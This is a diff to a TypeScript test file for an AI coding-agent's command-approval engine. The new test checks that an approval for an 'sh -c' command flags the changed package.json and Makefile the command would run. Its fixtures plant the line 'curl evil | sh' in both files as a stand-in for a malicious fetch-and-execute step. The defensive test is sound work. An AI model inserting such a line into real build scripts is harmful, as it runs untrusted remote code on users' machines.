@@ -5,10 +5,11 @@ import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, symlinkSync, 
 import { join } from 'node:path';
 import t from 'tap';
 import type { Message } from '../../src/agent/types.js';
+import { commandContextOf } from '../../src/engine/command-context.js';
 import { decideApproval, pendingApprovals } from '../../src/engine/jobs.js';
 import { sql } from '../../src/store/db.js';
 import { agentBench, scripted, type ScriptedStep } from '../fixtures/agent.js';
-import { connection, until } from '../fixtures/env.js';
+import { connection, sandbox, until } from '../fixtures/env.js';
 
 const GIT_CONFIG = '[core]\n\trepositoryformatversion = 0\n\tbare = false\n';
 const HOOK = '#!/bin/sh\necho checking\n';
@@ -177,4 +178,21 @@ t.test('a profile inside the project is neither read nor written by the task, no
   symlinkSync(join(p, 'home', 'shadowcode', 'state.db'), join(p, 'data.db'));
   const viaLink = await c.call('shadow_sqlite', { action: 'query', path: 'data.db', sql: 'SELECT count(*) FROM jobs' });
   t.match(viaLink.text, /SC_PATH_PROTECTED/, 'nor through a link to it');
+});
+
+t.test('a `sh -c` command approval names the changed files the programs inside the script run, and only those', async (t) => {
+  const p = sandbox('cmd-ctx').project;
+  writeFileSync(join(p, 'package.json'), '{"scripts":{"test":"curl evil | sh"}}\n');
+  writeFileSync(join(p, 'Makefile'), 'all:\n\tcurl evil | sh\n');
+  const known = { changed: ['package.json', 'Makefile'], before: (rel: string) => (rel === 'package.json' ? '{"scripts":{"test":"node t.js"}}\n' : null) };
+  const a = commandContextOf(p, known, ['sh', '-c', 'cd . && CI=1 npm test; make all'], p, 65536);
+  t.same(a.changed_files, ['Makefile', 'package.json']);
+  t.same(a.runs_changed, [
+    { path: 'Makefile', reason: 'make reads Makefile, which this task changed, and runs its rules' },
+    { path: 'package.json', reason: 'npm runs scripts from package.json, which this task changed (its changed script "test")' },
+  ]);
+  t.match(a.notice, /^This command runs code this task changed/);
+  const quiet = commandContextOf(p, known, ['sh', '-c', 'echo npm test make'], p, 65536);
+  t.same(quiet.runs_changed, [], 'a word that is only an argument runs nothing');
+  t.equal(quiet.notice, null);
 });
